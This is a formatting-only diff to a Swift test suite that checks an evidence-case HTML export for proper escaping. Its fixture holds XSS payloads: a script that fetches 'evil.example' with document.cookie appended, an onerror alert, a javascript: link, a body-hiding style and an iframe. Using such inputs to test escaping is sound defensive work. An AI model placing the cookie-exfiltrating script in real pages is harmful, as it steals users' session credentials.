@@ -11,10 +11,10 @@ struct EvidenceHTMLTests {
     contact: #"<img src=x onerror="alert(1)"> & Ünïcødé 👩🏽‍💼"#,
     summary: #"they said "</td></tr></table>" & left 😤"#,
     fullText: """
-      </pre><script>fetch("https://evil.example/?c="+document.cookie)</script>
-      <a href="javascript:alert(1)">click</a> & <style>body{display:none}</style>
-      'single' "double" `back` — 🎉
-      """,
+    </pre><script>fetch("https://evil.example/?c="+document.cookie)</script>
+    <a href="javascript:alert(1)">click</a> & <style>body{display:none}</style>
+    'single' "double" `back` — 🎉
+    """,
     note: #"<iframe src="https://evil.example"></iframe> 100% & more"#,
     reason: #"typo <b>bold</b> & "quoted""#
   )
@@ -71,7 +71,8 @@ struct EvidenceHTMLTests {
         "td", "ul", "li", "pre", "code", "strong", "span", "div", "time",
       ]
       #expect(names.subtracting(known) == [], "tags the page should not use")
-      #expect(html.hasPrefix("<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">"))
+      #expect(
+        html.hasPrefix("<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">"))
       #expect(html.hasSuffix("</body>\n</html>\n"))
     }
   }
@@ -128,7 +129,8 @@ struct EvidenceHTMLTests {
   private static func fixturePage() throws -> String {
     let harness = try ShellHarness()
     try harness.makeEvidenceCase()
-    let run = try harness.oneShot(["export", "--case", "acme", "--html"], at: ShellHarness.exportNow)
+    let run = try harness.oneShot(
+      ["export", "--case", "acme", "--html"], at: ShellHarness.exportNow)
     try #require(run.status == .success, "\(run.stderr)")
     return run.stdout
   }
